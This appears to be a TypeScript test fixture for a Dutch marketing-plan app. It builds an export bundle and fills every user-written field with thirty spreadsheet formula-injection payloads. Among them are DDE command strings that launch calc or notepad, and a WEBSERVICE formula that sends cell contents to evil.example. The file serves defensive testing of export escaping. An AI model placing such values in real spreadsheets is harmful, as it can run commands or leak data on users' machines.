import { readFileSync } from 'node:fs'
import { readPlaybook } from '../../prisma/playbook/read.ts'
import { generate } from '../domain/advice/generate.ts'
import { moods } from '../domain/advice/reading.ts'
import type { Line, Task } from '../domain/advice/types.ts'
import { planFor } from '../domain/mediaplan/plan.ts'
import { startDocument } from '../domain/mediaplan/start.ts'
import { workshopFileSchema } from '../domain/workshop/answers.ts'
import type { Bundle } from '../features/exports/bundle.ts'

/** A worked case as it would be taken along, with a plan of so many months. */
export function aBundle({ name = 'sc01-bloem-co', months = 6 }: { name?: string; months?: number } = {}): Bundle {
  const playbook = readPlaybook()
  const { answers, evidence = {} } = workshopFileSchema.parse(JSON.parse(readFileSync(new URL(`../domain/advice/cases/${name}.json`, import.meta.url), 'utf8')))
  const advice = generate({ answers, evidence }, playbook)
  const document = { ...startDocument(answers, { start: '2027-01', preparesFrom: '2026-11-22' }), months, monthlyCents: 123_457, confirmed: true }
  document.production = { own: { name: 'Filmpje van de winkel', cents: 98_765 } }
  return {
    company: advice.company, workshop: 'Klantreis 2026', number: 2, at: '2026-11-22T10:00:00.000Z', advice, answers, evidence, locale: 'nl',
    moods: moods(answers, playbook.tables.emotionValence), plan: { document, result: planFor({ document, advice, answers, playbook }) },
    names: new Map(playbook.channels.map(({ ref, name: words }) => [ref, words.nl])),
  }
}

/** Thirty texts that a spreadsheet would work out, send away or run if it took them for more than text. */
export const payloads = [
  '=1+1', '=SUM(A1:A9)', '=HYPERLINK("https://evil.example","klik")', '=WEBSERVICE("https://evil.example/"&A1)', '=cmd|\'/C calc\'!A0',
  '=IMPORTXML("https://evil.example","//a")', '=DDE("cmd","/C calc","x")', '=1+1;2', '={1,2,3}', '=\'C:\\x\'!A1', '==1+1', '=@SUM(1)',
  '+1+1', '+SUM(1;2)', '+cmd|\'/C notepad\'!A0', '+31 6 12345678', '-1+1', '-2+3+cmd|\'/C calc\'!A0', '-SUM(A1)', '- een streepje',
  '@SUM(1+1)', '@iemand', '@A1', '\t=1+1', '\r=1+1', '\t+2', '"=1+1"', ';=1+1', '=1+1\n=2+2', '=CONCATENATE("</t><f>1+1</f><t>","&amp;")',
] as const

/** The bundle with the payloads everywhere that people write: names, answers, lines and tasks of a strategist, the plan. */
export function withPayloads(bundle: Bundle): Bundle {
  const [line, task] = [bundle.advice.lines.find(({ kind }) => kind === 'channel')!, bundle.advice.tasks.find(({ first }) => !first)!]
  const own = payloads.flatMap((text, index): Line[] => [{ ...line, id: `own:${index}`, own: true, title: text, text, notes: [{ ref: 'own', text }] }])
  const tasks = payloads.map((text, index): Task => ({ ...task, id: `own:task-${index}`, own: true, title: text, text }))
  const plan = bundle.plan!
  return {
    ...bundle, company: payloads[0], workshop: payloads[12],
    advice: { ...bundle.advice, company: payloads[0], summary: payloads[2], lines: [...own, ...bundle.advice.lines], tasks: [...tasks, ...bundle.advice.tasks] },
    answers: { ...bundle.answers, companyPitch: payloads[3], informationNeeds: { see: payloads[16], think: payloads[20], do: payloads[23], care: payloads[29] } },
    plan: {
      ...plan,
      result: {
        ...plan.result,
        rows: plan.result.rows.map((row, index) => ({ ...row, name: payloads[index % payloads.length]! })),
        production: [...plan.result.production, ...payloads.map((name, index) => ({ id: `p${index}`, name, cents: null, rowIds: [], origin: 'own' as const, unsure: false }))],
        warnings: payloads.map(text => ({ kind: 'gone' as const, phase: null, rowId: null, months: [], text, refs: [] })),
      },
    },
  }
}
